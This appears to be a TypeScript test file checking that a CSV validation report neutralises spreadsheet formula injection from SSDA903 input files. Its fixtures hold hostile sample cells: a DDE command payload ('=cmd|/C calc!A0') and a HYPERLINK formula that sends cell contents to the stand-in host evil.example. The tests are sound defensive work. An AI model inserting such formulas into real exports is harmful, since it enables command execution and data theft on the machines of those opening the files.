import { after, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { reportCsv } from './report-csv.js';
import { safeCell } from '../csv/spreadsheet-csv.js';
import type { ValidationIssue } from './issue.js';
import { readInputs } from '../ingest/read-inputs.js';
import {
  EPISODE_COLUMNS,
  HEADER_COLUMNS,
  TODAY,
  csv,
  episodeRows,
  headerRows,
  tempFolder,
} from '../ingest/test-fixtures.js';

const issue: ValidationIssue = {
  code: 'GEN-CODE',
  severity: 'warning',
  file: 'episodes.csv',
  table: 'Episodes',
  position: 'line 3',
  childId: '=cmd|/C calc!A0',
  field: 'PLACE',
  value: '+Z1, "quoted"',
  dfeRule: '143',
  message: "episodes.csv line 3: PLACE '+Z1' is not a valid code in 2025-26.",
};

describe('reportCsv', () => {
  it('neutralises cells that start = + - @ (formula injection)', () => {
    for (const v of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1']) assert.equal(safeCell(v), `'${v}`);
    assert.equal(safeCell('WBRI'), 'WBRI');
  });

  it('writes one escaped row per issue under the report columns', () => {
    const text = reportCsv([issue], 'imp-1');
    assert.ok(text.startsWith('\ufeff'));
    const rows = parse(text.slice(1)) as string[][];
    assert.deepEqual(rows[0], [
      'import_id',
      'file',
      'table',
      'position',
      'child_id',
      'field',
      'value',
      'rule',
      'severity',
      'dfe_rule',
      'message',
    ]);
    assert.equal(rows[1]![4], "'=cmd|/C calc!A0");
    assert.equal(rows[1]![6], `'+Z1, "quoted"`);
    assert.equal(rows[1]![7], 'GEN-CODE');
  });
});

describe('reportCsv from input files (formula injection)', () => {
  const f = tempFolder();
  after(() => f.cleanup());

  it('a hostile cell of an SSDA903 file reaches the report CSV neutralised; ordinary values unchanged', async () => {
    f.write('set/header.csv', csv(HEADER_COLUMNS, [...headerRows(2), '1003,1,01/02/2010,@SUM(A1:A9),,,']));
    const episodes = episodeRows(3);
    episodes[0] = '1001,+1+1,S,C2,N1,U4,PR1,01/12/2021,E4A,,,,';
    episodes[1] =
      '1002,01/05/2021,S,C2,N1,"=HYPERLINK(""https://evil.example/?""&A1,""Open"")",PR1,01/12/2021,E4A,,,,';
    episodes[2] = '1003,01/05/2021,S,C2,N1,U4,PR1,01/12/2021,"E4A\n=1+1",,,,';
    f.write('set/episodes.csv', csv(EPISODE_COLUMNS, episodes));
    const result = await readInputs([`${f.dir}/set`], { la: '841', year: '2021-22', today: TODAY });
    const text = reportCsv(result.issues, null);
    // A value holding a line break is quoted, or a spreadsheet would start a row with the formula after it.
    assert.ok(text.includes(',"E4A\n=1+1",'), 'the multi-line value is one quoted cell');
    const rows = parse(text.slice(1)) as string[][];
    const value = (field: string) => rows.find((r) => r[5] === field)?.[6];
    assert.equal(value('DECOM'), "'+1+1");
    assert.equal(
      value('PLACE'),
      `'=HYPERLINK("HTTPS://EVIL.EXAMPLE/?"&A1,"OPEN")`,
      'codes are read upper-case',
    );
    assert.equal(value('ETHNIC'), "'@SUM(A1:A9)");
    assert.equal(value('REC'), 'E4A\n=1+1');
    for (const r of rows.slice(1)) {
      assert.doesNotMatch(r.join('|'), /(^|\|)[=+\-@\t\r]/, 'no cell of the report starts a formula');
      assert.equal(
        r[1],
        r[1]!.endsWith('header.csv') ? 'header.csv' : 'episodes.csv',
        'file names unchanged',
      );
    }
  });
});
